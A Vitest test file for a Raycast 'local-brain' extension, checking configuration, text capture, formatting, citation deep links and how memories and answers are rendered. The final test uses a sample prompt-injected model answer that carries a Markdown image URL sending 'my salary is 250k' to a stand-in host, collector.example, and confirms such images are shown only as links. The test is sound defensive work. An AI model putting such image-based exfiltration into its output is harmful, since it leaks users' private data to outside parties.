import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { answerMarkdown } from "../src/helpers/answer-markdown.ts";
import { configFromPreferences } from "../src/helpers/config.ts";
import { memoryLink } from "../src/helpers/deeplink.ts";
import { age, firstLine, foundBy, imagesAsLinks, parseTags, urlsIn } from "../src/helpers/format.ts";
import { memoryMarkdown } from "../src/components/MemoryDetail.tsx";
import type { Memory } from "../src/hooks/useMemorySearch.ts";
import { pickText } from "../src/helpers/text-source.ts";

const mac = { assetsPath: "/ext/assets", platform: "darwin" as const, arch: "arm64", env: {} };
const linux = { ...mac, platform: "linux" as const, env: { HOME: "/home/me" } };

describe("the Raycast composition root's configuration", () => {
  it("loads the native binaries from the extension's assets on a Mac, for its architecture", () => {
    const config = configFromPreferences({}, mac);
    expect(config.native).toEqual({
      betterSqlite3: "/ext/assets/native/darwin-arm64/better_sqlite3.node",
      sqliteVec: "/ext/assets/native/darwin-arm64/vec0.dylib",
    });
  });

  it("leaves the installed packages' binaries alone elsewhere", () => {
    expect(configFromPreferences({}, linux).native).toBeUndefined();
  });

  it("takes the preferences, treats empty ones as unset, and expands ~", () => {
    const config = configFromPreferences(
      { dbPath: " ~/notes/brain.db ", ollamaHost: "localhost:11500", embedModel: "", chatModel: "llama3.2" },
      linux,
    );
    expect(config.dbPath).toBe(path.join(os.homedir(), "notes", "brain.db"));
    expect(config.ollamaHost).toBe("http://localhost:11500");
    expect(config.embedModel).toBe("mxbai-embed-large");
    expect(config.chatModel).toBe("llama3.2");
  });
});

describe("Quick Capture's choice of text", () => {
  const sources = (selected: string | null, clipboard?: string) => ({
    selectedText: async () => {
      if (selected === null) throw new Error("Unable to get selected text from frontmost application");
      return selected;
    },
    clipboardText: async () => clipboard,
  });

  it("prefers the argument, then the selection, then the clipboard", async () => {
    expect(await pickText({ argument: " typed ", ...sources("sel", "clip") })).toEqual({
      text: "typed",
      from: "argument",
    });
    expect(await pickText({ argument: "", ...sources("sel", "clip") })).toEqual({
      text: "sel",
      from: "selection",
    });
    expect(await pickText(sources(null, "clip"))).toEqual({ text: "clip", from: "clipboard" });
    expect(await pickText(sources("  ", "  "))).toBeNull();
  });
});

describe("what the list and the answer show", () => {
  it("formats ages, ranks, titles, tags and addresses", () => {
    const now = new Date("2026-03-10T12:00:00Z");
    expect(age("2026-03-10T11:59:30Z", now)).toBe("now");
    expect(age("2026-03-10T09:00:00Z", now)).toBe("3h");
    expect(age("2026-03-01T12:00:00Z", now)).toBe("1w");
    expect(foundBy({ keyword: 2 })).toBe("keyword #2");
    expect(foundBy({ keyword: 1, semantic: 4 })).toBe("keyword #1 · meaning #4");
    expect(foundBy({ listed: 3 })).toBe("listed #3");
    expect(firstLine("a short line\nsecond")).toBe("a short line");
    expect(firstLine("word ".repeat(30), 20)).toBe("word word word…");
    expect(parseTags("#work, ideas  #later")).toEqual(["work", "ideas", "later"]);
    expect(
      urlsIn({ text: "see https://a.example/x). And http://b.example.", source: "https://a.example/x" }),
    ).toEqual(["https://a.example/x", "http://b.example"]);
  });

  it("links each citation to the memory it names and leaves unknown numbers alone", () => {
    const markdown = answerMarkdown({
      question: "billing?",
      answer: "Stripe [1], not PayPal [7].",
      sources: [{ n: 1, id: 42, text: "Billing moved to Stripe" }],
      cited: [1],
      notices: [],
      done: true,
    });
    expect(markdown).toContain(`Stripe [\\[1\\]](${memoryLink(42)}), not PayPal [7].`);
    expect(markdown).toContain(`1. [Billing moved to Stripe](${memoryLink(42)}) **(cited)**`);
    // The owner is the manifest's author, read by createDeeplink: it is written in one place.
    const { author } = JSON.parse(fs.readFileSync(new URL("../package.json", import.meta.url), "utf8")) as {
      author: string;
    };
    expect(decodeURIComponent(memoryLink(42))).toBe(
      `raycast://extensions/${author}/local-brain/search-brain?context={"entryId":42}`,
    );
  });

  it("shows no image a view would fetch by itself: an answer's, a memory's and a digest's images are links", () => {
    const steered = "Done. ![](https://collector.example/?d=my%20salary%20is%20250k)";
    const answer = answerMarkdown({
      question: "salary?",
      answer: steered,
      sources: [{ n: 1, id: 42, text: "chart ![plot](https://img.example/p.png) of pay" }],
      notices: [],
      done: true,
    });
    expect(answer).toContain("Done. [image: ](https://collector.example/?d=my%20salary%20is%20250k)");
    expect(answer).not.toContain("![");
    const memory = memoryMarkdown({ text: "see ![plot][p]\n\n[p]: https://img.example/p.png" } as Memory);
    expect(memory).toBe("see [image: plot][p]\n\n[p]: https://img.example/p.png");
    expect(imagesAsLinks("a ![x](https://a.example/x.png) and ![y](y.png)")).toBe(
      "a [image: x](https://a.example/x.png) and [image: y](y.png)",
    );
  });
});
